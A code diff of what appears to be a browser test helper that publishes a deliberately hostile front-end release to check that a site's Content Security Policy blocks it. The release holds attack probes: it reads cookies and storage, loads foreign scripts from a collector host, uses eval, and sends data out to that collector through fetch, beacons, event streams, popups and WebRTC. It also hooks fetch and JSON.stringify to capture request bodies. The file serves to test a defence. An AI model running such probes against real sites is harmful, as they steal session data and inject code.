@@ -2,8 +2,9 @@ import { createHash, generateKeyPairSync } from 'node:crypto';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import type { Page } from '@playwright/test';
+import { dataOf } from '../../site/call-api';
+import { callRegistry } from '../../site/call-registry';
 import type { Site } from '../../site/launch-site';
-import { tokenOf } from '../operator';
 import { signatureOf } from '../sample-remote';
 import type { Collector } from './collector';
 
@@ -13,8 +14,8 @@ const entry = 'remoteEntry.0a1b2c3d.js';
 export const fileOf = (version: string, file: string) => `/remotes/${name}/${version}/${file}`;
 
 /**
- * What the release tries, each in its own code, so that the policy of the page holds for it. What is blocked by an event of the
- * browser is `blocked`; nothing here waits for an answer that never comes.
+ * The attacks of the release. They run in its own code, to which the page's policy applies. Each resolves to `blocked` when the
+ * browser reports that by an event or an error; none waits for a response that never arrives.
  */
 function attacks(files: string, collector: string, stun: string) {
   const settled = (work: Promise<unknown>) =>
@@ -22,8 +23,8 @@ function attacks(files: string, collector: string, stun: string) {
       () => 'done',
       () => 'blocked',
     );
-  /** In a task of its own: the one that the debugger has begun may evaluate what it likes. */
-  const later = (act: () => unknown) => settled(new Promise((done) => setTimeout(done)).then(act));
+  /** Runs in a separate task, because the policy does not apply to the task that the debugger starts. */
+  const inOwnTask = (act: () => unknown) => settled(new Promise((done) => setTimeout(done)).then(act));
   const loaded = (element: HTMLElement & { src?: string }) =>
     new Promise<string>((done) => {
       element.onload = () => done('done');
@@ -43,29 +44,29 @@ function attacks(files: string, collector: string, stun: string) {
   const readable = async (path: string, headers = {}) => (await fetch(path, { headers })).status;
 
   return {
-    // what it is given
+    // the session
     cookies: async () => document.cookie,
     staff: () => readable('/api/v1/staff/reviews', { 'x-tafiya-ops': '1' }),
     tokens: () => readable('/releases/api/tokens', { 'x-tafiya-ops': '1' }),
-    // code
+    // other code
     foreignScript: () => loaded(made('script', { src: `${collector}/evil.js` })),
     foreignModule: () => settled(import(/* webpackIgnore: true */ `${collector}/evil.js`)),
     dataScript: () => loaded(made('script', { src: 'data:text/javascript,globalThis.ran=1' })),
     blobScript: () => loaded(made('script', { src: URL.createObjectURL(new Blob(['globalThis.ran=1'])) })),
-    answerAsScript: (address: string) => loaded(made('script', { src: address })),
+    responseAsScript: (address: string) => loaded(made('script', { src: address })),
     inlineScript: () =>
       violated(() => document.body.append(made('script', { textContent: 'globalThis.ran=1' })), 'script-src-elem'),
     handler: () => violated(() => document.body.setAttribute('onclick', 'globalThis.ran=1'), 'script-src-attr'),
     javascriptAddress: () =>
       violated(() => made('a', { href: 'javascript:void(globalThis.ran=1)' }).click(), 'script-src-elem'),
-    // biome-ignore lint/security/noGlobalEval: it is what is to be refused
-    evaluated: () => later(() => eval('globalThis.ran=1')),
-    madeFunction: () => later(() => new Function('globalThis.ran=1')()),
+    // biome-ignore lint/security/noGlobalEval: the test expects that it is refused
+    evaluated: () => inOwnTask(() => eval('globalThis.ran=1')),
+    functionConstructor: () => inOwnTask(() => new Function('globalThis.ran=1')()),
     serviceWorkerForAll: () => register(`${files}worker.js`, '/'),
     serviceWorkerForItsFolder: () => register(`${files}worker.js`, files),
     worker: () => workerRuns(() => new Worker(`${files}worker.js`)),
     sharedWorker: () => workerRuns(() => new SharedWorker(`${files}worker.js`)),
-    // data out
+    // exfiltration
     fetch: () => settled(fetch(`${collector}/fetch`, { mode: 'no-cors' })),
     beacon: () => violated(() => navigator.sendBeacon(`${collector}/beacon`, 'x'), 'connect-src'),
     events: () => opened(new EventSource(`${collector}/events`)),
@@ -103,16 +104,16 @@ function attacks(files: string, collector: string, stun: string) {
         document.body.append(link);
         link.click();
       }, 'connect-src'),
-    /** Another document of the site, in a window that this one has opened, sends for it, or registers its worker. */
+    /** Another document of the site, in a window that this one opens, sends data or registers a worker. */
     windowOf: async (address: string) => {
       const opened = window.open(address) as (Window & typeof globalThis) | null;
       if (!opened) return 'no window';
       await new Promise<void>((done) => {
-        const look = () =>
+        const check = () =>
           opened.location.href !== 'about:blank' && opened.document.readyState === 'complete'
             ? done()
-            : setTimeout(look, 20);
-        look();
+            : setTimeout(check, 20);
+        check();
       });
       const outcomes = await Promise.all([
         settled(opened.fetch(`${collector}/window`, { mode: 'no-cors' })),
@@ -130,7 +131,7 @@ function attacks(files: string, collector: string, stun: string) {
       peer.createDataChannel('x');
       await peer.setLocalDescription(await peer.createOffer());
     },
-    // what it finds in its realm
+    // the page's own storage, events and functions
     storage: async () => ({
       local: { ...localStorage },
       session: { ...sessionStorage },
@@ -155,7 +156,7 @@ function attacks(files: string, collector: string, stun: string) {
         seen.push(of[1]?.body);
         return real(...of);
       };
-      // what makes the bodies, for callers that have taken the functions above before
+      // for callers with references to the original functions above: it serializes their bodies
       const { stringify } = JSON;
       JSON.stringify = ((...of: Parameters<typeof stringify>) => {
         const text = stringify(...of);
@@ -163,14 +164,14 @@ function attacks(files: string, collector: string, stun: string) {
         return text;
       }) as typeof stringify;
     },
-    live: async () => {
+    keepRunning: async () => {
       Object.assign(globalThis, { beats: 0 });
       setInterval(() => {
         (globalThis as unknown as { beats: number }).beats += 1;
       }, 20);
     },
-    /** The tab asks for the map after each move, and never gets it. */
-    deafen: async () => {
+    /** The tab requests the release map after each change of the active release, and never gets it. */
+    blockReleaseMap: async () => {
       const unanswered: string[] = [];
       Object.assign(globalThis, { unanswered });
       globalThis.fetch = (of) => {
@@ -218,7 +219,7 @@ globalThis.${containerOf(version)} = {
 };
 })();`;
 
-/** Answers whoever loads it as a worker, and opens its folder as a page of its own. */
+/** Reports when it runs as a worker. As a service worker it serves its own page for its folder. */
 const worker = `
 globalThis.postMessage?.('runs');
 addEventListener('connect', ({ ports: [port] }) => port.postMessage('runs'));
@@ -226,14 +227,14 @@ addEventListener('fetch', (event) => event.respondWith(new Response('<h1>Planted
 const picture =
   '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" style="fill:red"/></svg>';
 
-/** @param isHostile whether it has the attacks, to be called one by one: `globalThis.attacks` */
+/** @param isHostile whether the entry defines the attacks in `globalThis.attacks` */
 function hostileRelease(version: string, isHostile: boolean, { origin, stun }: Collector) {
   const files = JSON.stringify(fileOf(version, ''));
   const code = `globalThis.attacks = (${attacks})(${files}, ${JSON.stringify(origin)}, ${JSON.stringify(stun)});`;
-  // in the order of their names, as the manifest has them
+  // sorted by name, as in the manifest
   const contents = {
     'picture.svg': picture,
-    // the registry wants each script known by its hash
+    // the registry requires the hash of each script in the entry
     [entry]: `/* sha256-${createHash('sha256').update(worker).digest('base64')} */ ${container(version, isHostile ? code : '')}`,
     'worker.js': worker,
   };
@@ -242,7 +243,7 @@ function hostileRelease(version: string, isHostile: boolean, { origin, stun }: C
     declaration: {
       name,
       title: 'Hostile',
-      contract: '^1.0.0',
+      contract: '^2.0.0',
       routes: [{ path, module: './page', head: { title: `Hostile ${version}` } }],
       widgets: [],
     },
@@ -252,7 +253,7 @@ function hostileRelease(version: string, isHostile: boolean, { origin, stun }: C
   };
 }
 
-/** Has the release try one of them in the tab. */
+/** Runs one attack in the tab. */
 export const attack = (page: Page, which: Attack, of?: string): Promise<unknown> =>
   page.evaluate(
     ([what, argument]) =>
@@ -262,29 +263,19 @@ export const attack = (page: Page, which: Attack, of?: string): Promise<unknown>
     [which, of] as const,
   );
 
-/** Its squad, with a token and a trusted key of its own: everything that the registry asks for. */
-export async function hostileSquad({ origin, dataDir, ...site }: Site, collector: Collector) {
+/** The squad of the hostile remote, with everything that the registry requires: a token and a trusted key of its own. */
+export async function hostileSquad(site: Site, collector: Collector) {
   const { privateKey, publicKey } = generateKeyPairSync('ed25519');
   const spki = publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
   const keys = [{ holder: 'hostile squad', publicKey: spki, names: [name] }];
-  await writeFile(join(dataDir, 'trusted-keys.json'), JSON.stringify({ keys }));
-  const post = async <Data>(to: string, token: string, body: object): Promise<Data> => {
-    const answer = await fetch(`${origin}/releases/api${to}`, {
-      method: 'POST',
-      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
-      body: JSON.stringify(body),
-    });
-    if (!answer.ok) throw new Error(`${to} answered ${answer.status}: ${await answer.text()}`);
-    return ((await answer.json()) as { data: Data }).data;
-  };
-  const order = { holder: 'hostile squad', role: 'squad', names: [name], by: 'Obi' };
-  const operator = await tokenOf({ origin, dataDir, ...site });
-  const { token } = await post<{ token: string }>('/tokens', operator, order);
+  await writeFile(join(site.dataDir, 'trusted-keys.json'), JSON.stringify({ keys }));
+  const tokenRequest = { holder: 'hostile squad', role: 'squad', names: [name], by: 'Obi' };
+  const { token } = await dataOf(callRegistry<{ token: string }>(site, '/tokens', tokenRequest));
   return {
     publish(version: string, isHostile: boolean) {
       const release = hostileRelease(version, isHostile, collector);
       const signature = signatureOf(release, privateKey);
-      return post('/releases', token, { ...release, signature, live: true });
+      return dataOf(callRegistry(site, '/releases', { ...release, signature, live: true }, token));
     },
   };
 }
